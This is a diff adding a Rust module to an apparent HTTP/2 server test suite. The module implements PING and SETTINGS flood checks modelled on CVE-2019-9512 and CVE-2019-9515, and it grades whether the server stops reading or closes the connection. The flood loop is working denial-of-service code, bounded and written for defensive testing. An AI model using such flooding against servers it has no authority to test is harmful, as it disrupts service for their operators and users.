@@ -1,0 +1,57 @@
+//! Frames that must be answered, from a client that never reads the answers: the answers pile up in a server that has no limit.
+
+use super::super::Attack;
+use super::super::ground::Ground;
+use super::super::outcome::{Evidence, Findings, Mark};
+use super::frame::{self, frame, setting};
+use super::link::Link;
+
+/// Answers unread at which a server counts as keeping them without a limit, in bytes: kernels keep at most some 10 MiB.
+const UNREAD: usize = 24 << 20;
+/// Written at a time, in bytes.
+const PIECE: usize = 64 << 10;
+
+pub(in super::super) const PING: Attack = Attack {
+    id: "h2-ping",
+    what: "sends PING frames without end and reads none of the answers",
+    source: "CVE-2019-9512",
+    correct: "the connection is ended, or no more is read while answers cannot be sent",
+    launch: |ground| Box::pin(flood(ground, frame::PING, &[0; 8])),
+};
+
+pub(in super::super) const SETTINGS: Attack = Attack {
+    id: "h2-settings",
+    what: "sends SETTINGS frames without end and reads none of the acknowledgements",
+    source: "CVE-2019-9515",
+    correct: "the connection is ended, or no more is read while acknowledgements cannot be sent",
+    launch: |ground| Box::pin(launch_settings(ground)),
+};
+
+async fn launch_settings(ground: &Ground<'_>) -> Findings {
+    flood(ground, frame::SETTINGS, &setting(frame::INITIAL_WINDOW_SIZE, 65_535)).await
+}
+
+async fn flood(ground: &Ground<'_>, kind: u8, payload: &[u8]) -> Findings {
+    let mut link = Link::open(ground, &[], true).await?;
+    let one = frame(kind, 0, 0, payload);
+    // An acknowledgement of settings carries no payload, that of a ping the same.
+    let answer = if kind == frame::SETTINGS { frame::HEAD } else { one.len() };
+    let piece = one.repeat(PIECE / one.len());
+    let each = PIECE / one.len();
+    let (mut sent, mut going) = (0, true);
+    while going && sent * answer < UNREAD && ((sent * one.len()) as u64) < ground.bounds.bytes && ground.turn().await {
+        going = link.write(&piece).await && !link.is_closed();
+        sent += each;
+    }
+    let unread = (sent * answer) >> 10;
+    Ok(vec![if link.is_closed() {
+        Evidence::new(Mark::Right, format!("the connection is ended after at most {sent} frames"))
+    } else if !going {
+        Evidence::new(Mark::Right, format!("after at most {sent} frames ({unread} KiB of answers) no more is read"))
+    } else if sent * answer >= UNREAD {
+        let what = format!("{sent} frames were read while nobody reads the {unread} KiB of answers to them: no limit");
+        Evidence::new(Mark::Wrong, what)
+    } else {
+        Evidence::new(Mark::Note, format!("only {sent} frames could be sent within the bounds"))
+    }])
+}
